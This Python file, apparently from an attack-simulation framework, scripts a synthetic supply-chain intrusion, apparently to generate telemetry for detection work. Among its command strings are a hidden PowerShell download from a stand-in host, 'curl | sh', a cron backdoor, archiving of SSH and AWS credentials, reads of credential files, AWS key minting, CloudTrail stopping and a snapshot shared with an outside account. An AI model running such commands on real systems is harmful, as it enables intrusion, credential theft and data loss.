"""A package that a developer installs is not what it was: from the developer's machine to the build server and into the cloud."""

from __future__ import annotations

from bartizan.simulate.company.cloud import ACCOUNT, Call, Principal, access_key
from bartizan.simulate.company.linux import Execution
from bartizan.simulate.company.network import Flow
from bartizan.simulate.company.programs import Program
from bartizan.simulate.contract import Attack, Deed
from bartizan.simulate.estate.campaign import Campaign
from bartizan.simulate.estate.resident import at_logon, calls_home

__all__ = ["CAMPAIGN"]

_DESK, _USER = "dev-05", "CORP\\dev05"
_OUTSIDE, _SERVER = "203.0.113.140", "registry-mirror.example.net"
_FOLDER = "C:\\Users\\dev05\\AppData\\Roaming\\npm-cache\\_helper"
_IMAGE = f"{_FOLDER}\\nodehelper.exe"
_PACKAGE = "C:\\Users\\dev05\\src\\portal\\node_modules\\left-align"
_LISTS = (
    "iam:ListUsers",
    "iam:ListRoles",
    "iam:ListAttachedRolePolicies",
    "iam:GetAccountAuthorizationDetails",
    "s3:ListBuckets",
    "secretsmanager:ListSecrets",
    "rds:DescribeDBInstances",
    "lambda:ListFunctions20150331",
    "ec2:DescribeInstances",
)
_ROLE = f"arn:aws:iam::{ACCOUNT}:role/ci-deploy"


def _deed(name: str, what: str, tactic: str, *techniques: str, host: str = _DESK, quiet: bool = False) -> Deed:
    principal = {"build-01": "deploy", "aws": _ROLE}.get(host, _USER)
    return Deed(id=f"supplier-{name}", what=what, techniques=techniques, tactic=tactic, host=host, principal=principal, quiet=quiet)


_INSTALL = _deed(
    "install", "A package is installed whose last release runs a script of its own.", "initial-access", "T1195.001", quiet=True
)
_SCRIPT = _deed("script", "The package's script starts PowerShell that fetches a program.", "execution", "T1059.007", "T1059.001", "T1105")
_START = _deed("start", "The program that was fetched starts.", "execution", "T1204.002", quiet=True)
_PERSIST = _deed("run-key", "The program is set to start at each logon.", "persistence", "T1547.001")
_CALLS = _deed("calls", "The program asks its server for orders every ten minutes.", "command-and-control", "T1071.001", quiet=True)
_LOOK = _deed("look", "Who the user is and where he may go is looked up.", "discovery", "T1033", "T1016", "T1049")
_KEYS = _deed("keys", "SSH keys and the profile of the cloud's command line are packed.", "credential-access", "T1552.004", "T1552.001")
_HOP = _deed("hop", "The developer's key opens the build server.", "lateral-movement", "T1021.004", host="build-01", quiet=True)
_LOADER = _deed("loader", "A script from outside is piped into a shell.", "execution", "T1059.004", "T1105", host="build-01")
_CRON = _deed("cron", "A job is added that runs a hidden file every hour.", "persistence", "T1053.003", host="build-01")
_SECRETS = _deed("secrets", "The pipeline's secrets are read.", "credential-access", "T1552.001", host="build-01", quiet=True)
_ASSUME = _deed("assume", "The pipeline's role is used from outside.", "initial-access", "T1078.004", host="aws", quiet=True)
_LIST = _deed("list", "Users, roles, buckets and secrets are listed.", "discovery", "T1087.004", "T1580", "T1619", host="aws")
_MINT = _deed("mint", "An access key is made for the monitoring user.", "persistence", "T1098.001", host="aws")
_FUNCTION = _deed("function", "The code of a function is replaced.", "persistence", "T1648", host="aws", quiet=True)
_TRAIL = _deed("trail", "The trail is stopped for half an hour.", "defense-evasion", "T1562.008", host="aws")
_TAKE = _deed("take", "A snapshot of the database is shared with a strange account.", "exfiltration", "T1537", host="aws")


def _installed(attack: Attack) -> None:
    company = attack.company
    desk = company.desks[_DESK]
    host, start = desk.host, company.clock.at("10:47:03")
    with attack.doing(start, _INSTALL):
        shell = host.start(start, "cmd", '"C:\\Windows\\System32\\cmd.exe" /c npm install left-align@2.4.1', desk.shell)
        node = host.start(start + 1, "node", "node npm-cli.js install left-align@2.4.1", shell)
        company.reach(start + 2, node, host, ("registry.npmjs.example.org", 443), Flow("", 0, "", 0, "-", 3.0, 2100, 1_840_000))
        host.write(start + 6, node, f"{_PACKAGE}\\postinstall.js")
    text = f"iwr https://{_SERVER}/m/win64 -OutFile $env:APPDATA\\npm-cache\\_helper\\nodehelper.exe"
    with attack.doing(start + 8, _SCRIPT):
        inner = host.start(start + 8, "node", f'node "{_PACKAGE}\\postinstall.js"', node)
        script = host.start(start + 9, "powershell", f'powershell.exe -NoP -W Hidden -Exec Bypass -c "{text}"', inner)
        host.script(start + 9.5, script, text)
        company.reach(start + 10, script, host, (_SERVER, 443), Flow("", 0, "", 0, "-", 2.4, 700, 2_310_000))
        host.write(start + 12, script, _IMAGE)
    with attack.doing(start + 13, _START):
        helper = host.start(start + 13, Program(_IMAGE), f'"{_IMAGE}"', script)
    with attack.doing(start + 15, _PERSIST):
        key = f"HKU\\{desk.user.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\NodeHelper"
        host.set_value(start + 15, helper, key, _IMAGE)
    calls_home(attack, _CALLS, (desk, helper, _SERVER), first=start + 20, every=600)


def _from_desk_to_build(attack: Attack) -> None:
    company = attack.company
    desk, build = company.desks[_DESK], company.linux["build-01"]
    helper = at_logon(attack, _START, desk, _IMAGE)
    calls_home(attack, _CALLS, (desk, helper, _SERVER), first=desk.since + 40, every=600)
    host, start = desk.host, company.clock.at("11:31:20")
    with attack.doing(start, _LOOK):
        for turn, (image, command) in enumerate((("whoami", "whoami /all"), ("ipconfig", "ipconfig /all"), ("netstat", "netstat -ano"))):
            host.run(start + turn * 7, image, command, helper, 1)
    with attack.doing(start + 90, _KEYS):
        packer = host.run(
            start + 90, "powershell", "powershell -c Compress-Archive $HOME\\.ssh,$HOME\\.aws $env:TEMP\\cache.zip", helper, 6
        )
        host.write(start + 93, packer, "C:\\Users\\dev05\\AppData\\Local\\Temp\\cache.zip")
        company.reach(start + 99, helper, host, (_SERVER, 443), Flow("", 0, "", 0, "-", 1.8, 48_000, 900))
    moment = company.clock.at("14:12:44")
    with attack.doing(moment, _HOP):
        host.run(moment, "ssh", "ssh -i C:\\Users\\dev05\\.ssh\\id_ed25519 -T deploy@build-01", helper, 900)
        port = company.dial(moment + 0.4, helper, host, ("build-01.corp.example.com", build.ip, 22))
        pid = build.accept(moment + 1, "deploy", (host.ip, port), "publickey")
    with attack.doing(moment + 30, _LOADER):
        loader = ("/bin/sh", "-c", f"curl -fsSL https://{_SERVER}/m/linux | sh")
        parent = build.execute(moment + 30, Execution(loader, 1001, 1001, "/home/deploy", 91, parent=pid, terminal="pts1"))
        build.execute(
            moment + 30.2, Execution(("curl", "-fsSL", f"https://{_SERVER}/m/linux"), 1001, 1001, "/home/deploy", 91, parent=parent)
        )
    with attack.doing(moment + 50, _CRON):
        adder = ("/bin/sh", "-c", "(crontab -l; echo '7 * * * * /home/deploy/.cache/.npm/agentd') | crontab -")
        build.execute(moment + 50, Execution(adder, 1001, 1001, "/home/deploy", 91, parent=parent))
        build.log(moment + 51, "crontab", "(deploy) REPLACE (deploy)")
    with attack.doing(moment + 120, _SECRETS):
        reads: tuple[tuple[str, ...], ...] = (("env",), ("cat", "/srv/build/.env.production"), ("cat", "/home/deploy/.aws/credentials"))
        for turn, words in enumerate(reads):
            build.execute(moment + 120 + turn * 20, Execution(words, 1001, 1001, "/srv/build", 91, parent=parent))
        build.depart(moment + 880, "deploy", (host.ip, port), pid)


def _in_the_cloud(attack: Attack) -> None:
    company = attack.company
    desk = company.desks[_DESK]
    helper = at_logon(attack, _START, desk, _IMAGE)
    calls_home(attack, _CALLS, (desk, helper, _SERVER), first=desk.since + 40, every=600)
    cloud, start = company.cloud, company.clock.at("02:18:00")
    thief = Principal(
        "ci-deploy", access_key("ci-deploy", 2, temporary=True), _OUTSIDE, "aws-cli/2.17.9 Python/3.12.4 Linux/6.1 exe/x86_64", "build-7715"
    )
    with attack.doing(start, _ASSUME):
        cloud.call(start, thief, Call("sts:GetCallerIdentity"))
    with attack.doing(start + 60, _LIST):
        for turn, action in enumerate(_LISTS):
            cloud.call(start + 60 + turn * 4, thief, Call(action))
    with attack.doing(start + 400, _MINT):
        answer = {"accessKey": {"accessKeyId": access_key("monitor", 2), "status": "Active", "userName": "monitor"}}
        cloud.call(start + 400, thief, Call("iam:CreateAccessKey", {"userName": "monitor"}, answer))
    with attack.doing(start + 700, _TRAIL):
        trail = {"name": f"arn:aws:cloudtrail:eu-central-1:{ACCOUNT}:trail/company"}
        cloud.call(start + 700, thief, Call("cloudtrail:StopLogging", trail))
        cloud.call(start + 2500, thief, Call("cloudtrail:StartLogging", trail))
    with attack.doing(start + 2700, _FUNCTION):
        cloud.call(start + 2700, thief, Call("lambda:UpdateFunctionCode20150331v2", {"functionName": "portal-mailer", "publish": True}))


def _taken(attack: Attack) -> None:
    company = attack.company
    start = company.clock.at("03:02:11")
    key = Principal("monitor", access_key("monitor", 2), _OUTSIDE, "aws-cli/2.17.9 Python/3.12.4 Linux/6.1 exe/x86_64")
    snapshot = {"dBSnapshotIdentifier": "portal-2026-nightly", "attributeName": "restore", "valuesToAdd": ["444455556666"]}
    with attack.doing(start, _TAKE):
        cloud = company.cloud
        cloud.call(start, key, Call("rds:DescribeDBSnapshots"))
        cloud.call(start + 40, key, Call("rds:ModifyDBSnapshotAttribute", snapshot))


CAMPAIGN = Campaign(
    name="supplier",
    title="A package with a script of its own leads from a developer to the build server and the cloud account.",
    days={0: [_installed], 1: [_from_desk_to_build], 3: [_in_the_cloud], 5: [_taken]},
)
